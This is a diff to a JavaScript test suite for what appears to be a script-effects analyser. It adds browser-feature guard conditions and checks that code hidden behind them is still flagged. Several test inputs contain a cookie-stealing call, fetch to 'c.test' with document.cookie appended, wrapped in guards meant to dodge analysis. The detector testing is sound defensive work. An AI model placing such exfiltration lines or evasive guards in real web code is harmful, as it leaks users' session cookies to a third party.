@@ -172,6 +172,34 @@ const POSSIBLE = [
 	"5&4",
 	"~5===-6",
 	"'b'>'a'",
+	"!window.setImmediate",
+	"!navigator.clipboard",
+	"!crypto.subtle",
+	"typeof cookieStore==='undefined'",
+	"!window.caches",
+	"!document.body.attachEvent",
+	"!Object.groupBy",
+	"![].toReversed",
+	"window.localStorage===null||!localStorage",
+	"arguments.callee",
+	"window.console&&console.log",
+	"[].toSorted",
+	"''.isWellFormed",
+	"(5).nope",
+	"(()=>{}).nope",
+	"window.onload",
+	"document.onclick",
+	"Object.create(window.Base).nope",
+	"Object.setPrototypeOf({},window.Base).nope",
+	"({__proto__:window.Base}).nope",
+	"Object.assign(Object.create({}),{__proto__:window.Base}).nope",
+	"new (class extends Base{})().nope",
+	"new (class extends Error{})('x').message",
+	"({}).__proto__",
+	"[].__proto__.at",
+	"({}).__lookupGetter__('a')",
+	"new MutationObserver(()=>{}).nope",
+	"pageVariable",
 ];
 /** No browser ever takes these ways. */
 const IMPOSSIBLE = [
@@ -198,6 +226,24 @@ describe("conditions", () => {
 		expect(effectsOf(`if (${condition}) { fetch("https://c.test/" + document.cookie); }`)).toEqual([LEAK]);
 		expect(effectsOf(`(${condition}) && fetch("https://c.test/" + document.cookie)`)).toEqual([LEAK]);
 		expect(effectsOf(`fetch("https://c.test/" + ((${condition}) ? document.cookie : ""))`)).toEqual([LEAK]);
+	});
+
+	test.each([
+		"var shared; if (shared) { LEAK }",
+		"for (const name in {}) { LEAK }",
+		"for (const name in Object.create({ a: 1 })) { LEAK }",
+		"for (const name in { get a() { return 1; } }) { LEAK }",
+		"for (const name in console) { LEAK }",
+		"const { nope: { a } = LEAK_VALUE } = {};",
+		"const { clipboard = LEAK_VALUE } = navigator;",
+		"const o = {}; o.__defineGetter__('a', () => 1); if (o.a) { LEAK }",
+		"const o = {}; o.__proto__ = { a: 1 }; if (o.a) { LEAK }",
+		"(function f() { if (arguments.callee === f) { LEAK } })();",
+	])("what may run is seen: %s", (code) => {
+		const leak = 'fetch("https://c.test/" + document.cookie)';
+		expect(effectsOf(code.replace("LEAK_VALUE", leak).replace("LEAK", `${leak};`))).toContainEqual(
+			expect.stringContaining("request fetch > third-party c.test < url cookie"),
+		);
 	});
 
 	test.each(IMPOSSIBLE)("what hangs on %s never runs", (condition) => {
